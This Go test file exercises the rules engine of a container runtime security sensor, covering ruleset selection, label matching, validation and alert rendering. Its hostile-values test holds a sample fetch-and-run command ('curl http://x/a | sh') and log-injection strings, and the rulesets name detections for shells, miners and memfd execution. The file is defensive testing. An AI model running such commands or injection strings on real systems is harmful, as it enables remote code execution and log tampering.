package rules

import (
	"slices"
	"strings"
	"testing"

	"mamori/internal/model"
	"mamori/internal/runtime/event"
)

const rulesetsYAML = `
rulesets:
  - name: baseline
    rules:
      - all: true
      - tag: miner
        enabled: false
  - name: prod-web
    namespaces: [prod]
    labels:
      matchLabels: {app: web}
      matchExpressions:
        - {key: tier, operator: NotIn, values: [batch]}
    rules:
      - id: terminal-shell-in-container
        action: terminate
      - id: crypto-miner-binary
        action: isolate
  - name: staging
    namespaces: [staging]
    host: true
    rules:
      - id: sudo-in-container
        action: isolate
`

func TestRulesets(t *testing.T) {
	cat, err := LoadBuiltin(Source{Name: "rs.yaml", Data: []byte(rulesetsYAML)})
	if err != nil {
		t.Fatal(err)
	}
	e, err := NewEngine(cat, cat.Rulesets()...)
	if err != nil {
		t.Fatal(err)
	}
	ev := e.NewEvaluator()
	find := func(in *Input, id string) (Match, bool) {
		ms, err := ev.Eval(in)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range ms {
			if m.Rule.ID == id {
				return m, true
			}
		}
		return Match{}, false
	}
	shell := func(opts ...opt) *Input {
		return mk(event.KindExec, append([]opt{ctr, proc("/bin/bash"), tty}, opts...)...)
	}
	inNS := func(ns string, labels map[string]string) opt {
		return func(in *Input) { in.Event.Container.Namespace, in.Event.Container.Labels = ns, labels }
	}

	// prod/web: the strongest action of the applying rulesets (terminate over the default log).
	m, ok := find(shell(), "terminal-shell-in-container")
	if !ok || m.Action != model.ActionTerminate || m.Ruleset != "prod-web" {
		t.Errorf("prod web: %+v %v", m, ok)
	}
	// Labels not matching: only the baseline applies, with the rule's default action.
	ev.Invalidate("")
	m, ok = find(shell(inNS("prod", map[string]string{"app": "web", "tier": "batch"})), "terminal-shell-in-container")
	if !ok || m.Action != model.ActionLog || m.Ruleset != "baseline" {
		t.Errorf("prod batch: %+v %v", m, ok)
	}
	// The miner tag is disabled in the baseline but enabled by prod-web.
	ev.Invalidate("")
	miner := mk(event.KindExec, ctr, proc("/tmp/xmrig"))
	if m, ok = find(miner, "crypto-miner-binary"); !ok || m.Action != model.ActionIsolate {
		t.Errorf("miner in prod web: %+v %v", m, ok)
	}
	ev.Invalidate("")
	miner.Event.Container.Namespace = "dev"
	if _, ok = find(miner, "crypto-miner-binary"); ok {
		t.Error("miner rule fired where only the baseline (miner tag disabled) applies")
	}
	// Host events: the baseline (no selector) and staging (host: true) apply.
	sel := e.Select(&event.Container{})
	if sel.Len() == 0 {
		t.Fatal("no rule for the host")
	}
	// The selection cache is per container: a label change needs Invalidate.
	ev.Invalidate("")
	in := shell()
	if m, _ := find(in, "terminal-shell-in-container"); m.Action != model.ActionTerminate {
		t.Fatal(m)
	}
	in.Event.Container.Labels = map[string]string{"app": "db"}
	if m, _ := find(in, "terminal-shell-in-container"); m.Action != model.ActionTerminate {
		t.Error("selection not cached per container")
	}
	ev.Invalidate(in.Event.Container.ID)
	if m, _ := find(in, "terminal-shell-in-container"); m.Action != model.ActionLog {
		t.Error("Invalidate did not refresh the selection")
	}
}

func TestRulesetValidation(t *testing.T) {
	cat, err := LoadBuiltin()
	if err != nil {
		t.Fatal(err)
	}
	for _, rs := range []*Ruleset{
		{Name: ""},
		{Name: "x", Entries: []Entry{{ID: "nope"}}},
		{Name: "x", Entries: []Entry{{ID: "memfd-exec", Tag: "x"}}},
		{Name: "x", Entries: []Entry{{All: true, Action: "block"}}},
		{Name: "x", Labels: &LabelSelector{MatchExpressions: []LabelRequirement{{Key: "a", Operator: "In"}}}},
	} {
		if _, err := NewEngine(cat, rs); err == nil {
			t.Errorf("%+v accepted", rs)
		}
	}
	if _, err := NewEngine(cat, DefaultRuleset(), DefaultRuleset()); err == nil {
		t.Error("two rulesets of one name accepted")
	}
}

func TestLabelSelector(t *testing.T) {
	s := &LabelSelector{MatchLabels: map[string]string{"app": "web"}, MatchExpressions: []LabelRequirement{
		{Key: "tier", Operator: "In", Values: []string{"fe", "be"}},
		{Key: "debug", Operator: "DoesNotExist"},
		{Key: "team", Operator: "Exists"},
	}}
	for _, c := range []struct {
		labels map[string]string
		want   bool
	}{
		{map[string]string{"app": "web", "tier": "fe", "team": "a"}, true},
		{map[string]string{"app": "web", "tier": "fe"}, false},
		{map[string]string{"app": "web", "tier": "x", "team": "a"}, false},
		{map[string]string{"app": "web", "tier": "fe", "team": "a", "debug": "1"}, false},
		{nil, false},
	} {
		if got := s.Matches(c.labels); got != c.want {
			t.Errorf("%v: %v", c.labels, got)
		}
	}
}

// TestHostileValues: paths and arguments with newlines, control characters, invalid UTF-8 and
// 64 KiB are evaluated within bounds and rendered on one line.
func TestHostileValues(t *testing.T) {
	e := builtinEngine(t)
	ev := e.NewEvaluator()
	long := strings.Repeat("A", 64<<10)
	in := mk(event.KindExec, ctr, proc("/tmp/x\n[fake] evil\x1b[31m\xff", long, "curl http://x/a | sh\n"), tty)
	in.Event.Process.Comm = "sh"
	in.Event.Process.Exe = "/bin/busybox"
	in.Event.Container.Labels = map[string]string{"a\nb": strings.Repeat("v", 1000)}
	for i := range 200 {
		in.Event.Container.Labels[strings.Repeat("k", i+1)] = "x"
	}
	ms, err := ev.Eval(in)
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, m := range ms {
		ids = append(ids, m.Rule.ID)
		msg := m.Message(in)
		if strings.ContainsAny(msg, "\n\r\x1b") || !strings.Contains(msg, "bytes)") && strings.Contains(msg, long[:600]) {
			t.Errorf("%s: unsafe or unbounded message %.200q", m.Rule.ID, msg)
		}
		if len(msg) > 16<<10 {
			t.Errorf("%s: message of %d bytes", m.Rule.ID, len(msg))
		}
	}
	if !slices.Contains(ids, "terminal-shell-in-container") {
		t.Errorf("busybox shell with a TTY not detected: %v", ids)
	}
	// An event of a kind the sensor does not know is an error, not a panic.
	if _, err := ev.Eval(&Input{Event: &event.Event{Kind: "weird\n"}}); err == nil {
		t.Error("unknown kind accepted")
	}
}

// TestAuditedEvaluation: every DefaultAuditEvery-th event runs through cel's fenced evaluator and
// gives the same answers.
func TestAuditedEvaluation(t *testing.T) {
	e := builtinEngine(t)
	ev := e.NewEvaluator()
	cases := ruleCases()
	for i := 0; i < DefaultAuditEvery+len(cases); i++ {
		c := cases[i%len(cases)]
		got := matchedIDs(t, ev, c.pos)
		if !slices.Contains(got, c.id) {
			t.Fatalf("event %d: %s did not fire (audited=%d)", i, c.id, ev.Stats.Audited)
		}
	}
	if ev.Stats.Audited == 0 || ev.Stats.Errors != 0 {
		t.Fatalf("stats %+v", ev.Stats)
	}
}

func TestKinds(t *testing.T) {
	e := builtinEngine(t)
	kinds := e.Kinds()
	for _, k := range []event.Kind{event.KindExec, event.KindOpen, event.KindConnect, event.KindModuleLoad, event.KindBPF} {
		if !slices.Contains(kinds, k) {
			t.Errorf("kinds %v lack %s", kinds, k)
		}
	}
	if slices.Contains(kinds, event.KindFork) || slices.Contains(kinds, event.KindExit) {
		t.Errorf("kinds %v: no built-in rule reads fork or exit", kinds)
	}
}

// TestModelEvent: every built-in match converts to an envelope the store accepts, hostile values
// included.
func TestModelEvent(t *testing.T) {
	e := builtinEngine(t)
	ev := e.NewEvaluator()
	n := 0
	for _, c := range ruleCases() {
		in := c.pos
		in.Ctx.Ancestors = []string{"/bin/sh\n\xff", strings.Repeat("/x", 5000)}
		ms, err := ev.Eval(in)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range ms {
			me := m.ModelEvent(in, "0123456789abcdef0123456789abcdef")
			if err := me.Validate(); err != nil {
				t.Errorf("%s: %v", m.Rule.ID, err)
			}
			if me.Rule.ID != m.Rule.ID || me.Tactic != m.Rule.Tactic || me.Technique != m.Rule.Technique || me.Action != m.Action {
				t.Errorf("%s: %+v", m.Rule.ID, me)
			}
			if m.Rule.ID == "container-drift" && me.Module != "drift" {
				t.Errorf("drift module %q", me.Module)
			}
			n++
		}
	}
	if n < len(ruleCases()) {
		t.Fatalf("%d envelopes", n)
	}
}
